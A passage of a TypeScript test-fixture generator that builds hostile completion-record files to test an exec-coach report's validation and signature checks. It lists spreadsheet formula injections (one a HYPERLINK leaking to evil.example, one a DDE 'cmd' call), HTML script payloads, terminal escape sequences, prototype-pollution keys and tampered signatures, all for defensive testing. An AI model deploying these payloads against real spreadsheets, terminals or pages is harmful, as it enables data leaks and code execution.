/**
 * Generates a corpus of hostile completion-record files (plus a few valid ones) in a folder, at
 * test time, with what the report must do with each: every record is untrusted, so each file is
 * either reported as the valid record it is, rejected with a reason code, or neutralised (read
 * but made harmless: unsigned, superseded, displayed with its name escaped).
 *
 * Records are signed with a master key chosen here, exactly as `coach export` signs them
 * (buildRecord's shape, exportFile, learnerKey), so the only thing wrong with a hostile file is
 * what the generator broke on purpose.
 */
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CompletionRecord, ExportFile, Program } from '../../src/core/sponsor/formats.js';
import type { LearnerStatus } from '../../src/core/sponsor/report-types.js';
import { keyFingerprint } from '../../src/core/sponsor/key-fingerprint.js';
import { exportFile } from '../../src/core/sponsor/record.js';
import { learnerKey, signRecord } from '../../src/core/sponsor/sign.js';
import type { RejectCode } from '../../src/core/sponsor/verify.js';

/** Static hostile samples kept as files (test/fixtures/hostile/records), with what the report must make of them. */
export const STATIC_DIR = path.join(
  path.dirname(fileURLToPath(import.meta.url)),
  '..',
  'fixtures',
  'hostile',
  'records',
);
const STATIC: [string, RejectCode[], string][] = [
  ['format-escape.json', ['wrong-format'], 'static: OSC and clear-screen sequences in the format'],
  ['html-everywhere.json', ['schema'], 'static: HTML and formula payloads in every string field'],
  ['truncated.json', ['not-json'], 'static: JSON cut in the middle'],
  ['proto-pollution.json', ['schema'], 'static: __proto__ and constructor keys inside the record'],
];

export const MASTER = Buffer.alloc(32, 0x5a).toString('base64url');
export const OTHER_MASTER = Buffer.alloc(32, 0x33).toString('base64url');
export const PROGRAM_ID = 'comex-2027';
export const REQUIRED = ['security-lock-down', 'linkedin-first-post'] as const;

/** The learners the corpus's roster names (learners.csv below). */
const ROSTER_IDS = ['ceo-001', 'cfo-002', 'coo-003', 'constructor', 'nobody-100']; // a roster holding control characters is refused whole (test/core/sponsor/roster-files.test.ts), so none here

export const PROGRAM: Program = {
  format: 'exec-coach.program/2',
  keyFingerprint: keyFingerprint(MASTER),
  id: PROGRAM_ID,
  title: 'Comex 2027',
  sponsor: { name: 'HR' },
  required: [...REQUIRED],
  due: '2027-03-31',
};

/** What the report must do with one file (paths are relative to the records folder, as the report shows them). */
export type Expectation =
  /** A genuine record: reported as the learner's row, with this status and verification. */
  | {
      file: string;
      kind: 'valid';
      hostile: boolean;
      learner: string;
      status: LearnerStatus;
      verification: 'valid' | 'unsigned' | 'not-in-roster';
      why: string;
    }
  /** Read, but must not decide anything: a valid record superseded by a newer one, an unsigned copy beaten by a signed one. */
  | { file: string; kind: 'superseded'; hostile: boolean; learner: string; why: string }
  /** Must be listed under "rejected" with one of these reason codes. */
  | { file: string; kind: 'rejected'; hostile: true; codes: RejectCode[]; why: string }
  /** Not a record at all and never listed (a folder named like a record, walked as a folder). */
  | { file: string; kind: 'ignored'; hostile: true; why: string };

export interface Corpus {
  /** The folder holding the records (run the report with this as the working directory and "." as the path). */
  records: string;
  program: string;
  key: string;
  roster: string;
  /** Extra path arguments for the report, relative to `records`. */
  extraArgs: string[];
  expectations: Expectation[];
  /** Valid learners the report must show, with the file their row must come from. */
  validRows: {
    learner: string;
    file: string;
    status: LearnerStatus;
    verification: 'valid' | 'unsigned' | 'not-in-roster';
  }[];
  fifo: boolean;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Lesson = CompletionRecord['lessons'][number];

const START = '2026-01-05T09:00:00.000Z';
const END = '2026-01-05T09:12:00.000Z';

export function lesson(id: string, status: Lesson['status'], extra: Partial<Lesson> = {}): Lesson {
  return {
    id,
    status,
    startedAt: START,
    completedAt: status === 'completed' ? END : null,
    mode: 'live',
    stepsDone: status === 'completed' ? 5 : 2,
    stepsTotal: 5,
    quiz: { correct: 1, total: 2 },
    minutesSpent: 12,
    ...extra,
  };
}

export function rec(
  learner: string,
  lessons: Lesson[],
  generatedAt = '2026-01-10T10:00:00.000Z',
  program = PROGRAM_ID,
): CompletionRecord {
  return {
    learner: { id: learner },
    program: { id: program },
    generatedAt,
    tool: { name: 'exec-coach', version: '0.1.0' },
    lessons,
  };
}

export function signed(record: CompletionRecord, master = MASTER): ExportFile {
  return exportFile(record, learnerKey(master, record.learner.id));
}

const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
const text = (v: unknown) => `${JSON.stringify(v, null, 2)}\n`;

/** A field path such as "record.lessons.0.quiz.correct". */
function getAt(root: Json, p: string): Json | undefined {
  let node: Json | undefined = root;
  for (const k of p.split('.')) {
    if (node === null || typeof node !== 'object') return undefined;
    node = Array.isArray(node) ? node[Number(k)] : node[k];
  }
  return node;
}
function setAt(root: Json, p: string, value: Json): void {
  const keys = p.split('.');
  const last = keys.pop()!;
  const parent = keys.length === 0 ? root : getAt(root, keys.join('.'));
  if (parent === null || typeof parent !== 'object' || parent === undefined) throw new Error(`no parent for ${p}`);
  if (Array.isArray(parent)) parent[Number(last)] = value;
  else Object.defineProperty(parent, last, { value, enumerable: true, writable: true, configurable: true });
}

/** Signs again after a change, when the record still looks enough like one: only the change is wrong. */
function resign(file: Json): Json {
  try {
    const f = file as { record?: { learner?: { id?: unknown } }; signature?: { value?: unknown } };
    if (
      f.signature &&
      typeof f.signature === 'object' &&
      typeof f.signature.value === 'string' &&
      f.signature.value.length === 43 &&
      typeof f.record?.learner?.id === 'string'
    ) {
      f.signature.value = signRecord(f.record as unknown as CompletionRecord, learnerKey(MASTER, f.record.learner.id));
    }
  } catch {
    // canonicalize refuses some values (e.g. undefined): keep the old signature.
  }
  return file;
}

/** The string fields of a record file, each a place where a payload can go. */
const STRING_FIELDS = [
  'format',
  'record.learner.id',
  'record.program.id',
  'record.generatedAt',
  'record.tool.name',
  'record.tool.version',
  'record.lessons.0.id',
  'record.lessons.0.status',
  'record.lessons.0.startedAt',
  'record.lessons.0.mode',
  'signature.alg',
  'signature.kid',
  'signature.value',
];
/** Every field of a record file, for wrong types. */
const ALL_FIELDS = [
  'format',
  'record',
  'record.learner',
  'record.learner.id',
  'record.program',
  'record.program.id',
  'record.generatedAt',
  'record.tool',
  'record.tool.name',
  'record.tool.version',
  'record.lessons',
  'record.lessons.0',
  'record.lessons.0.id',
  'record.lessons.0.status',
  'record.lessons.0.startedAt',
  'record.lessons.0.completedAt',
  'record.lessons.0.mode',
  'record.lessons.0.stepsDone',
  'record.lessons.0.stepsTotal',
  'record.lessons.0.quiz',
  'record.lessons.0.quiz.correct',
  'record.lessons.0.quiz.total',
  'record.lessons.0.minutesSpent',
  'signature',
  'signature.alg',
  'signature.kid',
  'signature.value',
];
/** Objects at every level, for extra fields. */
const LEVELS = [
  '',
  'record',
  'record.learner',
  'record.program',
  'record.tool',
  'record.lessons.0',
  'record.lessons.0.quiz',
  'signature',
];

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
];
export const HTML_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg onload=alert(1)>'];
export const CONTROL_PAYLOADS = [
  '\u001b[2J\u001b[H', // clear screen
  '\u001b]0;pwned title\u0007', // OSC window title, BEL-terminated
  '\u0007\u0007bell', // BEL
  '\u009b31mC1-CSI\u009d0;c1 title\u009c', // C1 CSI / OSC / ST
  '\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\', // OSC 8 hyperlink
  '\u001bP+q\u001b\\\u0000\u007f', // DCS, NUL, DEL
];

function wrongValue(original: Json | undefined, i: number): Json {
  const pick = <T extends Json>(xs: T[]) => xs[i % xs.length]!;
  if (typeof original === 'string') return pick([42, true, null, [], { x: 1 }, -1.5]);
  if (typeof original === 'number') return pick(['12', true, null, [3], { n: 1 }, '1e3']);
  if (Array.isArray(original)) return pick([{ 0: 'a' }, 'lessons', 1, null, true]);
  return pick(['record', 7, [], null, false]);
}

/** Where the corpus goes, and what the report must make of each file written there. */
interface Writer {
  root: string;
  dir: string;
  expectations: Expectation[];
  validRows: Corpus['validRows'];
  /** Writes one file of the corpus; a Buffer name is bytes that need not be UTF-8. */
  put(name: string | Buffer, content: string | Buffer): void;
  /** A file the report must refuse, with one of `codes`. */
  reject(name: string, content: string | Buffer, codes: RejectCode[], why: string): void;
  /** A record the report must show in `learner`'s row. */
  valid(
    name: string,
    file: ExportFile | string | Buffer,
    learner: string,
    status: LearnerStatus,
    why: string,
    hostile?: boolean,
    signed?: 'valid' | 'unsigned',
  ): void;
}

function writer(root: string): Writer {
  const dir = path.join(root, 'records');
  mkdirSync(dir, { recursive: true });
  const expectations: Expectation[] = [];
  const validRows: Corpus['validRows'] = [];
  const put = (name: string | Buffer, content: string | Buffer) =>
    writeFileSync(
      typeof name === 'string' ? path.join(dir, name) : Buffer.concat([Buffer.from(`${dir}/`), name]),
      content,
    );
  const reject = (name: string, content: string | Buffer, codes: RejectCode[], why: string) => {
    put(name, content);
    expectations.push({ file: name, kind: 'rejected', hostile: true, codes, why });
  };
  const valid = (
    name: string,
    file: ExportFile | string | Buffer,
    learner: string,
    status: LearnerStatus,
    why: string,
    hostile = false,
    signed: 'valid' | 'unsigned' = 'valid',
  ) => {
    put(name, typeof file === 'string' || Buffer.isBuffer(file) ? file : text(file));
    // Someone the roster does not name is shown as "not in roster" and never counted (issue 12, finding 8).
    const verification = ROSTER_IDS.includes(learner) ? signed : 'not-in-roster';
    expectations.push({ file: name, kind: 'valid', hostile, learner, status, verification, why });
    validRows.push({ learner, file: name, status, verification });
  };
  return { root, dir, expectations, validRows, put, reject, valid };
}

/** Genuine records of several learners, some in files with hostile names, some with their signature stripped. */
function writeGenuine(w: Writer): { ceo: ExportFile; cfo: ExportFile } {
  const { ceo, cfo } = writeGenuineLearners(w);
  writeOddButValid(w);
  writeHostileNames(w);
  writeStripped(w);
  return { ceo, cfo };
}

/** Plain genuine records of the roster's learners (ceo's and cfo's are reused by the hostile variants). */
function writeGenuineLearners(w: Writer): { ceo: ExportFile; cfo: ExportFile } {
  const { valid } = w;
  // ---- Genuine records, several learners. ----
  const ceo = signed(
    rec('ceo-001', [
      lesson('security-lock-down', 'completed'),
      lesson('linkedin-first-post', 'completed', { mode: 'draft' }),
    ]),
  );
  const cfo = signed(rec('cfo-002', [lesson('security-lock-down', 'completed'), lesson('constructor', 'in-progress')]));
  valid('ceo-001.json', ceo, 'ceo-001', 'completed', 'valid record, all required lessons done');
  valid(
    'cfo-002.json',
    cfo,
    'cfo-002',
    'in-progress',
    'valid record, one required lesson done, and a lesson id "constructor"',
  );
  valid('coo-003.json', signed(rec('coo-003', [])), 'coo-003', 'not-started', 'valid record, nothing done yet');
  valid(
    'constructor.json',
    signed(rec('constructor', [lesson('security-lock-down', 'in-progress')])),
    'constructor',
    'in-progress',
    'learner id "constructor" (an Object.prototype name)',
  );
  return { ceo, cfo };
}

/** Valid records that look odd: an older one superseded by a newer one, a BOM, numbers spelt differently. */
function writeOddButValid(w: Writer): void {
  const { expectations, put, valid } = w;
  // Two valid records of one learner: the newest wins, the older is read and set aside.
  put(
    'cmo-004-old.json',
    text(signed(rec('cmo-004', [lesson('security-lock-down', 'in-progress')], '2026-01-08T10:00:00.000Z'))),
  );
  expectations.push({
    file: 'cmo-004-old.json',
    kind: 'superseded',
    hostile: false,
    learner: 'cmo-004',
    why: 'older valid record of a learner with a newer one',
  });
  valid(
    'cmo-004-new.json',
    signed(
      rec(
        'cmo-004',
        [lesson('security-lock-down', 'completed'), lesson('linkedin-first-post', 'completed')],
        '2026-02-10T10:00:00.000Z',
      ),
    ),
    'cmo-004',
    'completed',
    'newest of two valid records of one learner',
  );
  // BOM-prefixed valid record.
  valid(
    'bom-005.json',
    `\uFEFF${text(signed(rec('bom-005', [lesson('security-lock-down', 'completed')])))}`,
    'bom-005',
    'in-progress',
    'valid record with a UTF-8 BOM',
    true,
  );
  // "-0" and "1e1": the same numbers written differently; the signature covers the canonical values.
  const numbers = signed(
    rec('numbers-006', [lesson('security-lock-down', 'in-progress', { minutesSpent: 0, stepsDone: 1 })]),
  );
  valid(
    'numbers-006.json',
    text(numbers).replace('"minutesSpent": 0', '"minutesSpent": -0').replace('"stepsDone": 1', '"stepsDone": 1e0'),
    'numbers-006',
    'in-progress',
    'NaN-ish spellings of valid numbers (-0, 1e0)',
    true,
  );
}

/** Valid records in files with hostile names. */
function writeHostileNames(w: Writer): void {
  const { valid } = w;
  // Valid records whose FILE NAME is hostile: the name reaches every output as the row's source.
  const named: [string, string][] = [
    ['=HYPERLINK("http:evil","x").json', 'name-eq'],
    ['+SUM(1+1).json', 'name-plus'],
    ['-2+3.json', 'name-minus'],
    ['@SUM(A1).json', 'name-at'],
    ['\t=1+1.json', 'name-tab'],
    ['\r=1+1.json', 'name-cr'],
    ['\u001b[2J\u001b]0;pwned\u0007.json', 'name-esc'],
    ['\u009b31m\u0085c1.json', 'name-c1'],
    ['<script>alert(1)<script>.json', 'name-html'],
    ['\n=cmd.json', 'name-nl'],
    ['[x](javascript:alert(1)).json', 'name-mdlink'],
  ];
  for (const [name, learner] of named)
    valid(
      name,
      signed(rec(learner, [lesson('security-lock-down', 'in-progress')])),
      learner,
      'in-progress',
      `valid record in a file named ${JSON.stringify(name)}`,
      true,
    );
}

/** Records with their signature stripped. */
function writeStripped(w: Writer): void {
  const { expectations, put, valid } = w;
  // Signature stripped: the record is reported, as "unsigned".
  const stripped = clone(
    signed(rec('strip-007', [lesson('security-lock-down', 'completed'), lesson('linkedin-first-post', 'completed')])),
  );
  delete (stripped as { signature?: unknown }).signature;
  valid('strip-007.json', stripped, 'strip-007', 'completed', 'signature stripped: unsigned', true, 'unsigned');
  // Signature stripped from a newer, inflated record of a learner with a valid record: the valid one still wins.
  const forged = clone(
    signed(
      rec(
        'cfo-002',
        [lesson('security-lock-down', 'completed'), lesson('linkedin-first-post', 'completed')],
        '2026-03-01T10:00:00.000Z',
      ),
    ),
  );
  delete (forged as { signature?: unknown }).signature;
  put('zz-cfo-002-unsigned-newer.json', text(forged));
  expectations.push({
    file: 'zz-cfo-002-unsigned-newer.json',
    kind: 'superseded',
    hostile: true,
    learner: 'cfo-002',
    why: 'newer unsigned record claiming more: a valid record beats it',
  });
}

/** Copies of a valid record: byte for byte, re-serialised, and with its signature spelt differently. */
function writeCopies(w: Writer, ceo: ExportFile): void {
  const { dir, expectations, reject } = w;
  // ---- Duplicates. ----
  copyFileSync(path.join(dir, 'ceo-001.json'), path.join(dir, 'zz-copy-ceo-001.json'));
  expectations.push({
    file: 'zz-copy-ceo-001.json',
    kind: 'rejected',
    hostile: true,
    codes: ['duplicate'],
    why: 'identical copy of a valid record',
  });
  reject(
    'zz-copy-ceo-001-minified.json',
    JSON.stringify(ceo),
    ['duplicate'],
    'the same record re-serialised (whitespace only)',
  );
  // The last base64url character of a 32-byte value carries 2 unused bits: 4 spellings decode to the same bytes.
  const malleated = clone(ceo);
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const lastIndex = alphabet.indexOf(malleated.signature!.value.at(-1)!);
  malleated.signature!.value = malleated.signature!.value.slice(0, 42) + alphabet[lastIndex ^ 1];
  reject(
    'zz-copy-ceo-001-malleated.json',
    text(malleated),
    ['schema', 'duplicate', 'invalid-signature'],
    'the same record, its signature spelt differently (unused low bits of the last base64url character)',
  );
}

/** Files that are not JSON. */
function writeNotJson(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  // ---- Not JSON. ----
  reject('broken.json', '{ "format": "exec-coach.export/1", "record": {', ['not-json'], 'truncated JSON');
  reject('empty.json', '', ['not-json'], 'empty file');
  reject('blank.json', ' \n\t\r\n', ['not-json'], 'whitespace only');
  reject(
    'raw-escapes.json',
    '\u001b[2J\u001b]0;pwned\u0007<script>alert(1)</script>\u009b31m',
    ['not-json'],
    'raw terminal escapes and a script tag (the JSON error quotes the text)',
  );
  reject('trailing.json', `${JSON.stringify(ceo)} and more`, ['not-json'], 'a valid record followed by garbage');
  reject(
    'nan.json',
    '{"format":"exec-coach.export/1","record":NaN,"signature":Infinity}',
    ['not-json'],
    'NaN and Infinity literals',
  );
  reject('single-quotes.json', "{'format':'exec-coach.export/1'}", ['not-json'], 'single-quoted JSON');
  reject('comments.json', `// signed\n${JSON.stringify(ceo)}`, ['not-json'], 'JSON with a comment');
  reject(
    'utf16.json',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(ceo), 'utf16le')]),
    ['not-json'],
    'UTF-16 LE with BOM (0xff 0xfe)',
  );
  reject(`${'a'.repeat(240)}.json`, '{', ['not-json'], 'a 245-character file name');
}

/** Deep nesting and huge strings. */
function writeDeepAndHuge(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  // ---- Deep nesting and huge strings. ----
  const depth = 100_000;
  reject(
    'deep-arrays.json',
    `${'['.repeat(depth)}${']'.repeat(depth)}`,
    ['not-json', 'wrong-format'],
    '100k nested arrays',
  );
  reject(
    'deep-objects.json',
    `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
    ['not-json', 'wrong-format'],
    '100k nested objects',
  );
  reject(
    'deep-in-record.json',
    `{"format":"exec-coach.export/1","record":{"learner":{"id":${'['.repeat(depth)}${']'.repeat(depth)}}}}`,
    ['not-json', 'schema'],
    '100k nested arrays as the learner id',
  );
  reject(
    'deep-extra.json',
    JSON.stringify(ceo).replace(/}$/, `,"x":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`),
    ['not-json', 'schema'],
    '100k nested objects in an extra field',
  );
  const bigName = clone(ceo) as unknown as Json;
  setAt(bigName, 'record.learner.name', 'N'.repeat(900 * 1024));
  reject('huge-name.json', text(resign(bigName)), ['schema'], 'a 900 KB learner name (an extra field)');
  const bigId = clone(ceo) as unknown as Json;
  setAt(bigId, 'record.learner.id', 'x'.repeat(900 * 1024));
  reject('huge-id.json', text(bigId), ['schema'], 'a 900 KB learner id');
  reject(
    'huge-format.json',
    JSON.stringify({ format: `\u001b[2J${'F'.repeat(900 * 1024)}` }),
    ['wrong-format'],
    'a 900 KB format string',
  );
  reject('over-1mib.json', text(ceo) + ' '.repeat(1024 * 1024), ['too-large'], 'a valid record padded past 1 MiB');
}

/** JSON that is not a record object, wrong types in every field, and extra fields at every level. */
function writeWrongShapes(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  // ---- Not a record object. ----
  reject('array.json', '[{"format":"exec-coach.export/1"}]', ['wrong-format'], 'a JSON array');
  reject('string.json', '"exec-coach.export/1"', ['wrong-format'], 'a JSON string');
  reject('number.json', '42', ['wrong-format'], 'a JSON number');
  reject('null.json', 'null', ['wrong-format'], 'JSON null');
  reject('enrollment.json', '{"format":"exec-coach.enrollment/1"}', ['wrong-format'], 'another exec-coach file');
  reject(
    'next-version.json',
    text({ ...clone(ceo), format: 'exec-coach.export/2' }),
    ['wrong-format'],
    'a future major version',
  );
  reject(
    'proto.json',
    '{"__proto__":{"format":"exec-coach.export/1","polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    ['wrong-format', 'schema'],
    '__proto__ and constructor keys',
  );

  // ---- Wrong types in every field. ----
  ALL_FIELDS.forEach((field, i) => {
    const f = clone(ceo) as unknown as Json;
    setAt(f, field, wrongValue(getAt(f, field), i));
    reject(
      `type-${field}.json`,
      text(resign(f)),
      field === 'format' ? ['wrong-format'] : ['schema'],
      `wrong type in ${field}`,
    );
  });
  // ---- Extra fields at every level, with hostile key names. ----
  const keys = [
    'extra',
    '\u001b[2J\u001b]0;pwned\u0007',
    '<script>alert(1)</script>',
    '=HYPERLINK("http://evil")',
    '__proto__',
    'name',
    'email',
    '\u009b2J',
  ];
  LEVELS.forEach((level, i) => {
    const f = clone(ceo) as unknown as Json;
    setAt(
      f,
      level === '' ? keys[i]! : `${level}.${keys[i]!}`,
      level === 'record.learner' ? 'Claire Dubois <claire@example.com>' : { polluted: true },
    );
    reject(
      `extra-${level || 'top'}.json`,
      text(resign(f)),
      ['schema'],
      `extra field ${JSON.stringify(keys[i])} at ${level || 'the top level'}`,
    );
  });
}

/** Formula, HTML and terminal-control payloads in every string field. */
function writeInjections(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  // ---- Injection payloads in every string field: formulas, HTML, terminal controls. ----
  const payloads = [
    ...FORMULA_PAYLOADS.map((p, i) => ['formula', i, p] as const),
    ...HTML_PAYLOADS.map((p, i) => ['html', i, p] as const),
    ...CONTROL_PAYLOADS.map((p, i) => ['control', i, p] as const),
  ];
  for (const field of STRING_FIELDS) {
    for (const [family, i, payload] of payloads) {
      const f = clone(ceo) as unknown as Json;
      setAt(f, field, `${payload}${String(getAt(f, field))}`);
      reject(
        `inject-${family}${i}-${field}.json`,
        text(resign(f)),
        field === 'format' ? ['wrong-format'] : ['schema'],
        `${family} payload ${JSON.stringify(payload)} before ${field}`,
      );
    }
  }
}

/** Records that break one rule on dates, numbers or consistency, each signed again. */
function writeBrokenRules(w: Writer, ceo: ExportFile): void {
  // ---- Dates, numbers and consistency rules, each re-signed: only the rule is broken. ----
  const variant = variantWriter(w, ceo);
  writeBadDates(variant);
  writeBadLessons(variant);
  writeBadNumberText(w, ceo);
}

/** Writes a variant of ceo's record changed by `change`, signed again, as a file that must be rejected. */
type Variant = (name: string, change: (r: CompletionRecord) => void, why: string, codes?: RejectCode[]) => void;

function variantWriter(w: Writer, ceo: ExportFile): Variant {
  const { reject } = w;
  return (name, change, why, codes = ['schema']) => {
    // Another learner than the genuine ones: a variant that got through must not hide their rows.
    const r = clone(ceo.record);
    r.learner.id = 'variant-010';
    change(r);
    let file: ExportFile;
    try {
      file = signed(r);
    } catch {
      file = { ...clone(ceo), record: r };
    }
    reject(name, text(file), codes, why);
  };
}

/** Times that are not valid ISO instants in the programme's range, and impossible lesson dates. */
function writeBadDates(variant: Variant): void {
  const badTimes: [string, string][] = [
    ['future-3000', '3000-01-01T00:00:00.000Z'],
    ['year-275760', '+275760-09-13T00:00:00.000Z'],
    ['before-2020', '2019-12-31T23:59:59.999Z'],
    ['epoch', '1970-01-01T00:00:00.000Z'],
    ['date-only', '2027-01-10'],
    ['offset', '2027-01-10T10:00:00+02:00'],
    ['space', '2027-01-10 10:00:00Z'],
    ['words', 'yesterday'],
    ['month-13', '2027-13-45T10:00:00.000Z'],
    ['minute-60', '2027-01-10T10:60:00Z'],
    ['empty', ''],
    ['february-30', '2027-02-30T10:00:00.000Z'],
    ['hour-24', '2027-01-10T24:00:00.000Z'],
  ];
  for (const [name, t] of badTimes)
    variant(`date-generatedAt-${name}.json`, (r) => void (r.generatedAt = t), `generatedAt ${JSON.stringify(t)}`);
  variant(
    'date-startedAt-future.json',
    (r) => void (r.lessons[0]!.startedAt = '2999-01-01T00:00:00.000Z'),
    'startedAt in 2999',
  );
  variant(
    'date-completed-before-start.json',
    (r) => void (r.lessons[0]!.completedAt = '2026-01-01T00:00:00.000Z'),
    'completed before it started',
  );
}

/** Lessons whose status, times, minutes, steps or quiz contradict each other or the rules. */
function writeBadLessons(variant: Variant): void {
  variant(
    'completed-without-time.json',
    (r) => void (r.lessons[0]!.completedAt = null),
    'completed lesson without completion time',
  );
  variant(
    'in-progress-with-time.json',
    (r) => void (r.lessons[0]!.status = 'in-progress'),
    'in-progress lesson with a completion time',
  );
  variant('minutes-negative.json', (r) => void (r.lessons[0]!.minutesSpent = -5), 'negative minutes');
  variant('minutes-fraction.json', (r) => void (r.lessons[0]!.minutesSpent = 1.5), 'fractional minutes');
  variant('minutes-huge.json', (r) => void (r.lessons[0]!.minutesSpent = 1e12), 'a trillion minutes');
  variant('steps-done-over-total.json', (r) => void (r.lessons[0]!.stepsDone = 9), 'stepsDone > stepsTotal');
  variant('steps-over-50.json', (r) => Object.assign(r.lessons[0]!, { stepsDone: 60, stepsTotal: 60 }), '60 steps');
  variant(
    'quiz-correct-over-total.json',
    (r) => void (r.lessons[0]!.quiz = { correct: 3, total: 2 }),
    'quiz correct > total',
  );
  variant('quiz-negative.json', (r) => void (r.lessons[0]!.quiz = { correct: -1, total: 2 }), 'negative quiz score');
  variant(
    'duplicate-lesson-ids.json',
    (r) => void r.lessons.push(clone(r.lessons[0]!)),
    'the same lesson twice in one record',
  );
  variant(
    'too-many-lessons.json',
    (r) => void (r.lessons = Array.from({ length: 501 }, (_, i) => lesson(`l-${i}`, 'in-progress'))),
    '501 lessons',
  );
  variant(
    'status-unknown.json',
    (r) => void ((r.lessons[0] as { status: string }).status = 'passed'),
    'unknown status',
  );
  variant('tool-other.json', (r) => void ((r.tool as { name: string }).name = 'evil-coach'), 'another tool');
}

/** Numbers edited in the text of a signed record: as a string, overflowing to Infinity, underflowing to 0. */
function writeBadNumberText(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  const textNumber = (name: string, from: string, to: string, why: string) =>
    reject(name, text(ceo).replace(from, to), ['schema', 'not-json'], why);
  textNumber('nan-string.json', '"minutesSpent": 12', '"minutesSpent": "NaN"', 'minutes "NaN" as a string');
  textNumber('infinity.json', '"minutesSpent": 12', '"minutesSpent": 1e400', 'minutes 1e400 (Infinity once parsed)');
  reject(
    'tiny.json',
    text(ceo).replace('"minutesSpent": 12', '"minutesSpent": 1e-400'),
    ['invalid-signature'],
    'minutes 1e-400 (0 once parsed): a changed record, so the signature fails',
  );
}

/** Signatures that do not match, or of the wrong shape, and records of other programmes. */
function writeBadSignatures(w: Writer, ceo: ExportFile, cfo: ExportFile): void {
  writeMismatchedSignatures(w, ceo, cfo);
  writeMisshapenSignatures(w, ceo);
  writeOtherPrograms(w);
}

/** Well-formed signatures that do not match the record they sit in. */
function writeMismatchedSignatures(w: Writer, ceo: ExportFile, cfo: ExportFile): void {
  const { reject } = w;
  // ---- Signatures. ----
  const tampered = text(cfo).replace('"minutesSpent": 12', '"minutesSpent": 13');
  reject('tampered-minutes.json', tampered, ['invalid-signature'], 'one number changed after signing');
  reject(
    'swap-signature-block.json',
    text({ ...clone(cfo), signature: clone(ceo.signature!) }),
    ['invalid-signature'],
    "cfo's record with ceo's signature block (kid mismatch)",
  );
  reject(
    'swap-signature-value.json',
    text({ ...clone(cfo), signature: { ...clone(cfo.signature!), value: ceo.signature!.value } }),
    ['invalid-signature'],
    "cfo's record and kid with ceo's signature value",
  );
  reject(
    'kid-mismatch.json',
    text({ ...clone(ceo), signature: { ...clone(ceo.signature!), kid: 'someone-else' } }),
    ['invalid-signature'],
    'kid names another learner',
  );
  reject(
    'other-master-key.json',
    text(signed(rec('ghost-099', [lesson('security-lock-down', 'completed')]), OTHER_MASTER)),
    ['invalid-signature'],
    'signed with another programme key',
  );
  reject(
    'learner-changed.json',
    text({
      ...clone(ceo),
      record: { ...clone(ceo.record), learner: { id: 'cfo-002' } },
      signature: { ...clone(ceo.signature!), kid: 'cfo-002' },
    }),
    ['invalid-signature'],
    'learner id and kid rewritten',
  );
  reject(
    'duplicate-keys.json',
    `{"format":"exec-coach.export/1","record":${JSON.stringify(ceo.record)},"signature":${JSON.stringify(ceo.signature)},"record":${JSON.stringify({ ...ceo.record, lessons: [] })}}`,
    ['not-json'],
    'the record key twice (JSON.parse would keep the last one, which the signature does not cover): refused as a name given twice',
  );
}

/** Signature blocks of the wrong shape: value length, alphabet, padding, algorithm, null. */
function writeMisshapenSignatures(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  for (const [name, value] of [
    ['short', ceo.signature!.value.slice(0, 42)],
    ['long', `${ceo.signature!.value}A`],
    ['padded', `${ceo.signature!.value}=`],
    ['base64', ceo.signature!.value.replace(/[-_]/g, '+').replace(/^./, '/')],
    ['hex', 'ab'.repeat(32)],
    ['empty', ''],
  ] as const) {
    if (name === 'base64' && !/[+/]/.test(value)) continue;
    reject(
      `signature-${name}.json`,
      text({ ...clone(ceo), signature: { ...clone(ceo.signature!), value } }),
      ['schema'],
      `signature value of the wrong shape (${name})`,
    );
  }
  reject(
    'signature-alg-none.json',
    text({ ...clone(ceo), signature: { ...clone(ceo.signature!), alg: 'none' } }),
    ['schema'],
    'alg "none"',
  );
  reject('signature-null.json', text({ ...clone(ceo), signature: null }), ['schema'], 'signature null');
}

/** Records of another programme, signed or not. */
function writeOtherPrograms(w: Writer): void {
  const { reject } = w;
  // ---- Other programmes. ----
  reject(
    'other-program.json',
    text(signed(rec('ceo-001', [lesson('security-lock-down', 'completed')], '2026-03-01T10:00:00.000Z', 'board-2027'))),
    ['other-program'],
    'valid record of another programme',
  );
  reject(
    'unenrolled.json',
    text(
      exportFile(
        rec('unenrolled', [lesson('security-lock-down', 'completed')], '2026-01-10T10:00:00.000Z', 'none'),
        undefined,
      ),
    ),
    ['other-program'],
    'unsigned record of a learner who never enrolled',
  );
}

/** Issue 12: a name given twice, records from the future, times compared as text. */
function writeIssue12(w: Writer, ceo: ExportFile): void {
  const { reject } = w;
  // ---- Issue 12: a name given twice, records from the future, times compared as text. ----
  const ceoPretty = text(ceo);
  const twice = (before: string, extra: string) => ceoPretty.replace(before, `${extra}${before}`);
  reject(
    'dup-minutes-before-signed.json',
    twice('"minutesSpent"', '"minutesSpent": 999,\n        '),
    ['not-json'],
    'minutesSpent given twice, 999 first (JSON.parse would keep the signed value)',
  );
  reject(
    'dup-learner-id.json',
    twice('"id": "ceo-001"', '"id": "cfo-002", '),
    ['not-json'],
    'learner.id given twice, the first naming another learner',
  );
  reject(
    'dup-top-level-record.json',
    `{"format":"exec-coach.export/1","record":{},${ceoPretty.trim().slice(1)}`,
    ['not-json'],
    'record given twice',
  );
  reject(
    'future-2099.json',
